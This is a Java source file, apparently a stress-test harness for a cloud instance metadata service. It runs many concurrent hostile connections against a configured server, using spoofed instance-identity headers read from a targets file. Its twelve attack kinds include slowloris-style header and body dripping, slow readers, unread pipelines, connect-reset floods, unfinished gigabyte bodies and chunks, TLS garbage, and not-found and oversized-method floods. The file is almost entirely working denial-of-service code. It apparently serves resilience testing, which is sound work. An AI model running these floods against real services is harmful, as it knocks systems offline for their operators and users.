// SPDX-License-Identifier: Apache-2.0
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.concurrent.TimeUnit;
import java.util.function.Supplier;

/**
 * Peers that mean a server no good, in one thread: as many connections of each kind as told, for as
 * many seconds. A connection that the server ends is opened again at the next second; a flood's at
 * once.
 *
 * <p>Prints what came of it as one line of JSON: connections that were opened, that could not be,
 * and that the server ended; requests sent and bytes received.
 */
public final class Attacks {
  private static final long SECOND = TimeUnit.SECONDS.toNanos(1);
  private static final int TINY_WINDOW = 1024;
  private static final int BODY = 60_000;

  /** As large as a password may be: a larger one is refused before it is read. */
  private static final int SHORT_BODY = 1000;

  private static final int PIPELINED = 50;
  private static final int METHOD = 8000;

  private final InetSocketAddress server;
  private final InetSocketAddress from;
  private final String identity;
  private final Selector selector = Selector.open();
  private final ByteBuffer input = ByteBuffer.allocate(1 << 16);
  private final SplittableRandom random = new SplittableRandom(7);
  private long opened;
  private long refused;
  private long ended;
  private long requests;
  private long received;

  private Attacks(Options options) throws IOException {
    this.server = options.address("server");
    this.from = new InetSocketAddress(options.text("from"), 0);
    String[] target = Files.readAllLines(options.file("targets")).get(0).split("\t");
    this.identity =
        "Host: 169.254.169.254\r\nX-Instance-ID: %s\r\nX-Instance-ID-Signature: %s\r\nX-Forwarded-For: %s\r\nX-Tenant-ID: %s\r\n"
            .formatted((Object[]) target);
  }

  /**
   * Runs the command.
   *
   * @param arguments {@code attack} and options
   * @throws IOException when no socket can be opened
   */
  public static void main(String[] arguments) throws IOException {
    Options options = Options.parse(arguments);
    Attacks attacks = new Attacks(options);
    attacks.run(attacks.peers(options.text("kinds")), options.integer("seconds"));
    System.out.printf(
        Locale.ROOT,
        "{\"opened\": %d, \"refused\": %d, \"ended\": %d, \"requests\": %d, \"received\": %d}%n",
        attacks.opened,
        attacks.refused,
        attacks.ended,
        attacks.requests,
        attacks.received);
  }

  /** The ways to attack. */
  private enum Kind {
    /** A byte of a request's head each second. */
    SLOW_HEADERS {
      @Override
      Peer peer(Attacks all) {
        return all.new Dripping("GET / HTTP/1.1\r\n", all.identity.repeat(10));
      }
    },
    /** A byte of a request's body each second. */
    SLOW_BODIES {
      @Override
      Peer peer(Attacks all) {
        return all.new Dripping(all.post("Content-Length: " + SHORT_BODY), "x".repeat(SHORT_BODY));
      }
    },
    /** Asks for the largest document over and over, and reads a byte of it each second. */
    SLOW_READERS {
      @Override
      Peer peer(Attacks all) {
        return all.new SlowReader(all.get("/latest/user-data").repeat(PIPELINED));
      }
    },
    /** Asks as fast as the server takes requests, and reads nothing. */
    PIPELINES {
      @Override
      Peer peer(Attacks all) {
        return all.new Greedy(all.get("/latest/user-data").repeat(PIPELINED));
      }
    },
    /** Keeps the connection after an answer. */
    IDLE {
      @Override
      Peer peer(Attacks all) {
        return all.new Peer(all.get("/latest/meta-data/instance-id"));
      }
    },
    /** Connects and says nothing. */
    CONNECTS {
      @Override
      Peer peer(Attacks all) {
        return all.new Peer("");
      }
    },
    /** Says that nothing more will come, amidst a request. */
    HALF_CLOSED {
      @Override
      Peer peer(Attacks all) {
        return all.new HalfClosed("GET /latest/meta-data/ HTTP/1.1\r\nHost:");
      }
    },
    /** Connects and resets or closes the connection, as fast as it can. */
    CONNECT_FLOOD {
      @Override
      Peer peer(Attacks all) {
        return all.new Vanishing();
      }
    },
    /** A body of a gigabyte, of which little comes. */
    UNFINISHED_BODIES {
      @Override
      Peer peer(Attacks all) {
        return all.new Peer(all.post("Content-Length: 1000000000") + "x".repeat(BODY));
      }
    },
    /** A chunk of a gigabyte, of which a kilobyte comes. */
    UNFINISHED_CHUNKS {
      @Override
      Peer peer(Attacks all) {
        String chunk = "3B9ACA00\r\n" + "x".repeat(SHORT_BODY);
        return all.new Peer(all.post("Transfer-Encoding: chunked") + chunk);
      }
    },
    /** The beginning of a TLS handshake, then what comes. */
    GARBAGE {
      @Override
      Peer peer(Attacks all) {
        return all
        .new Dripping("\u0016\u0003\u0001\u0002\u0000\u0001", "\u0000\u00ff\r\n".repeat(BODY));
      }
    },
    /** Asks for what is not there, as fast as it is answered. */
    NOT_FOUND_FLOOD {
      @Override
      Peer peer(Attacks all) {
        return all.new Flooding(() -> all.get("/latest/" + all.random.nextLong()));
      }
    },
    /** Methods that nobody knows, as fast as they are answered. */
    METHOD_FLOOD {
      @Override
      Peer peer(Attacks all) {
        return all
        .new Flooding(
            () ->
                (Long.toHexString(all.random.nextLong()) + "X".repeat(METHOD)).substring(0, METHOD)
                    + all.get("/latest/").substring(3));
      }
    };

    abstract Peer peer(Attacks all);
  }

  private String get(String path) {
    return "GET " + path + " HTTP/1.1\r\n" + identity + "\r\n";
  }

  private String post(String framing) {
    return "POST /openstack/latest/password HTTP/1.1\r\n" + identity + framing + "\r\n\r\n";
  }

  private static ByteBuffer bytes(String text) {
    return ByteBuffer.wrap(text.getBytes(StandardCharsets.ISO_8859_1));
  }

  /** As many of each kind as {@code kind=count,...} says. */
  private List<Peer> peers(String kinds) {
    List<Peer> peers = new ArrayList<>();
    for (String each : kinds.split(",")) {
      String[] pair = each.split("=");
      Kind kind = Kind.valueOf(pair[0].replace('-', '_').toUpperCase(Locale.ROOT));
      for (int i = 0; i < Integer.parseInt(pair[1]); i++) {
        peers.add(kind.peer(this));
      }
    }
    return peers;
  }

  private void run(List<Peer> peers, int seconds) throws IOException {
    final long start = System.nanoTime();
    for (int second = 0; second < seconds; second++) {
      for (Peer peer : peers) {
        peer.second();
        selector.selectNow(this::ready);
      }
      long next = start + (second + 1) * SECOND;
      for (long left = next - System.nanoTime(); left > 0; left = next - System.nanoTime()) {
        selector.select(this::ready, 1 + TimeUnit.NANOSECONDS.toMillis(left));
      }
    }
    for (Peer peer : peers) {
      peer.close();
    }
  }

  private void ready(SelectionKey key) {
    Peer peer = (Peer) key.attachment();
    try {
      if (!peer.isConnected) {
        peer.channel.finishConnect();
        opened++;
        key.interestOps(SelectionKey.OP_READ);
        peer.connected();
      } else if (key.isReadable()) {
        peer.read();
      } else if (key.isWritable()) {
        peer.write();
      }
    } catch (IOException e) {
      peer.lost();
    }
  }

  /** A connection that sends something once, and reads whatever comes. */
  private class Peer {
    private final ByteBuffer opening;
    ByteBuffer output;
    SocketChannel channel;
    SelectionKey key;
    boolean isConnected;

    Peer(String opening) {
      this.opening = bytes(opening);
    }

    /** Opens the connection where there is none. */
    void second() {
      if (channel == null) {
        open();
      }
    }

    final void open() {
      try {
        isConnected = false;
        channel = SocketChannel.open();
        prepare();
        channel.bind(from);
        channel.configureBlocking(false);
        int next = channel.connect(server) ? SelectionKey.OP_WRITE : SelectionKey.OP_CONNECT;
        key = channel.register(selector, next, this);
      } catch (IOException e) {
        lost();
      }
    }

    void prepare() throws IOException {
      channel.setOption(StandardSocketOptions.TCP_NODELAY, true);
    }

    void connected() throws IOException {
      isConnected = true;
      requests++;
      send(opening.duplicate());
    }

    final void send(ByteBuffer what) throws IOException {
      output = what;
      write();
    }

    void write() throws IOException {
      channel.write(output);
      int reading = key.interestOps() & SelectionKey.OP_READ;
      key.interestOps(output.hasRemaining() ? reading | SelectionKey.OP_WRITE : reading);
    }

    void read() throws IOException {
      input.clear();
      int count = channel.read(input);
      if (count < 0) {
        lost();
      } else {
        received += count;
      }
    }

    void lost() {
      if (isConnected) {
        ended++;
      } else {
        refused++;
      }
      close();
    }

    final void close() {
      try {
        if (channel != null) {
          channel.close();
        }
      } catch (IOException e) {
        throw new IllegalStateException("a socket that cannot be closed", e);
      }
      channel = null;
    }
  }

  /** Sends a beginning, and a byte each second. */
  private final class Dripping extends Peer {
    private final ByteBuffer drops;

    Dripping(String opening, String drops) {
      super(opening);
      this.drops = bytes(drops);
    }

    @Override
    void second() {
      super.second();
      if (channel != null && isConnected && drops.hasRemaining()) {
        try {
          channel.write(drops.duplicate().limit(drops.position() + 1));
          drops.position(drops.position() + 1);
        } catch (IOException e) {
          lost();
        }
      }
    }
  }

  private class SlowReader extends Peer {
    SlowReader(String opening) {
      super(opening);
    }

    @Override
    void prepare() throws IOException {
      channel.setOption(StandardSocketOptions.SO_RCVBUF, TINY_WINDOW);
    }

    @Override
    void connected() throws IOException {
      key.interestOps(0);
      super.connected();
    }

    @Override
    void second() {
      super.second();
      if (channel != null && isConnected) {
        input.clear().limit(1);
        try {
          received += Math.max(0, channel.read(input));
        } catch (IOException e) {
          lost();
        }
      }
    }
  }

  private final class Greedy extends SlowReader {
    private final String many;

    Greedy(String many) {
      super(many);
      this.many = many;
    }

    @Override
    void write() throws IOException {
      super.write();
      if (!output.hasRemaining()) {
        requests += PIPELINED;
        output = bytes(many);
        key.interestOps(SelectionKey.OP_WRITE);
      }
    }
  }

  private final class HalfClosed extends Peer {
    HalfClosed(String opening) {
      super(opening);
    }

    @Override
    void connected() throws IOException {
      super.connected();
      channel.shutdownOutput();
    }
  }

  private final class Vanishing extends Peer {
    Vanishing() {
      super("");
    }

    @Override
    void prepare() throws IOException {
      channel.setOption(StandardSocketOptions.SO_LINGER, random.nextInt(4) == 0 ? -1 : 0);
    }

    @Override
    void connected() {
      close();
      open();
    }
  }

  /** Asks again as soon as it is answered. */
  private final class Flooding extends Peer {
    private final Supplier<String> next;

    Flooding(Supplier<String> next) {
      super("");
      this.next = next;
    }

    @Override
    void connected() throws IOException {
      isConnected = true;
      ask();
    }

    private void ask() throws IOException {
      requests++;
      send(bytes(next.get()));
    }

    @Override
    void read() throws IOException {
      long before = received;
      super.read();
      if (channel == null) {
        open();
      } else if (received > before) {
        ask();
      }
    }
  }
}
